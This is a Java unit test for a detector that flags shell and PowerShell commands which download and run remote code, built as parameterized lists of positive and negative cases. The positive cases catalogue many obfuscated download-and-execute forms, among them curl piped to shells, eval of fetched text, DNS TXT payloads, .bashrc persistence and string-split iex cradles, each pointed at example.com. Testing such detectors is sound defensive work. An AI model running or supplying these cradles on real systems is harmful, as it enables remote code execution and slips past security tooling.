package dev.assay.detectors.indicator.command;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The same said in another way, in a shell of Unix. */
class ShellFormsTest {
    private static List<Trait.Kind> kinds(String text) {
        return CommandJudge.traits(text.replace("FETCH", "curl -s http://example.com/x")).stream()
                .map(Trait::kind)
                .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "FETCH | $SHELL",
                "FETCH | \"${BASH}\"",
                "FETCH | $(which bash)",
                "FETCH | `command -v sh`",
                "FETCH | busybox sh",
                "FETCH | /usr/bin/env -S bash -e",
                "FETCH | stdbuf -oL -eL bash",
                "FETCH | su -c sh",
                "FETCH | su - user -c bash",
                "FETCH | lua",
                "FETCH | osascript",
                "C=curl; $C -s http://example.com/x | sh",
                "C='curl -s'; $C http://example.com/x | sh",
                "alias d=curl; d -s http://example.com/x | sh",
                "bash -c $'\\x63url -s http://example.com/x | sh'",
                "FETCH >| a; source a",
                "FETCH | dd of=a.sh; sh a.sh",
                "git clone http://example.com/r.git /tmp/r && sh /tmp/r/a/x.sh",
                "trap \"FETCH | sh\" EXIT",
                "trap -- 'FETCH | sh' EXIT",
                "su -c 'FETCH | sh'",
                "echo \"FETCH | sh\" >> ~/.bashrc",
                "echo 'FETCH | sh' > x.sh; sh x.sh",
                "dig +short TXT c.example.com | sh",
                "nslookup -q=txt example.com | grep -o x | sh",
                "read -r -d \"\" x < <(FETCH); eval \"$x\"",
                "mapfile -t a < <(FETCH); eval \"${a[@]}\"",
                "while read l; do eval \"$l\"; done < <(FETCH)",
                "npx -y http://example.com/a.tgz",
                "deno run -A http://example.com/a.ts",
            })
    void whatIsFetchedIsRun(String text) {
        assertThat(kinds(text)).containsExactly(Trait.Kind.RUNS_DOWNLOAD_FROM_ANYWHERE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo $SHELL; FETCH | cat",
                "FETCH | busybox tar x",
                "FETCH | stdbuf -oL grep a",
                "FETCH | su -c cat",
                "C=cat; FETCH | $C",
                "alias d=cat; FETCH | d",
                "FETCH >| a; source b",
                "FETCH | dd of=a.sh; sh b.sh",
                "git clone http://example.com/r.git /tmp/r && sh /tmp/s/x.sh",
                "trap 'rm -f x' EXIT; FETCH",
                "echo \"FETCH | sh\"",
                "echo 'Run: FETCH | sh' > README.md",
                "dig +short A example.com | sh",
                "dig +short TXT example.com | grep v=spf1",
                "read -r x < <(FETCH); echo \"$x\"",
                "npx -y wait-on http://example.com/",
                "npx playwright install",
                "deno run -A main.ts http://example.com/",
                "grep $'\\x09' x",
            })
    void whatIsFetchedIsNotRun(String text) {
        assertThat(kinds(text)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "i`e`x (i`w`r 'http://example.com/p')",
                "&('ie'+'x')(irm http://example.com/p)",
                "&('ie'+'x') (New-Object ('Net.We'+'bClient')).DownloadString('http://example.com/p')",
                "set-alias z iex\nz (irm http://example.com/p)",
                "$h=[System.Net.Http.HttpClient]::new()\n$t=$h.GetStringAsync('http://example.com/p').Result\niex $t",
                "$r=[Net.WebRequest]::Create('http://example.com/p').GetResponse().GetResponseStream()\n"
                        + "iex ([IO.StreamReader]::new($r).ReadToEnd())",
                "irm http://example.com/p | % { iex $_ }",
                "irm http://example.com/p | ForEach-Object { Invoke-Expression $_ }",
                "Start-Process powershell -ArgumentList '-c','irm http://example.com/p | iex' -WindowStyle Hidden",
                "& cmd /c \"curl -o a.exe http://example.com/p && a.exe\"",
                "cmd /c curl -s http://example.com/a.bat -o a.bat && a.bat",
                "curl.exe -s http://example.com/p -o a.ps1\n. .\\a.ps1",
                "powershell -c \"Start-BitsTransfer http://example.com/a.exe a.exe; .\\a.exe\"",
                "msiexec /q /i http://example.com/a.msi",
                "(iwr http://example.com/p).Content | iex",
                "(Invoke-WebRequest http://example.com/p -UseBasicParsing).Content.ToString() | Invoke-Expression",
                "iex (iwr http://example.com/p).Content",
                "$t = (iwr http://example.com/p).Content\niex $t",
            })
    void whatWindowsFetchesIsRun(String text) {
        assertThat(kinds(text)).containsExactly(Trait.Kind.RUNS_DOWNLOAD_FROM_ANYWHERE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "&('e'+'cho')(irm http://example.com/p)",
                "set-alias z echo\nz (irm http://example.com/p)",
                "$t=$h.GetStringAsync('http://example.com/p').Result\nWrite-Host $t",
                "irm http://example.com/p | % { echo $_ }",
                "Start-Process notepad -ArgumentList '-c','irm http://example.com/p | iex'",
                "& cmd /c \"curl -o a.txt http://example.com/p && type a.txt\"",
                "msiexec /q /i a.msi; Write-Host http://example.com",
                "echo 'a'+'b' `n x",
                "(iwr http://example.com/p).Content | ConvertFrom-Json",
                "(iwr http://example.com/p).ContentType | iex",
                "(iwr http://example.com/p).StatusCode | Write-Host",
            })
    void whatWindowsFetchesIsNotRun(String text) {
        assertThat(kinds(text)).isEmpty();
    }
}
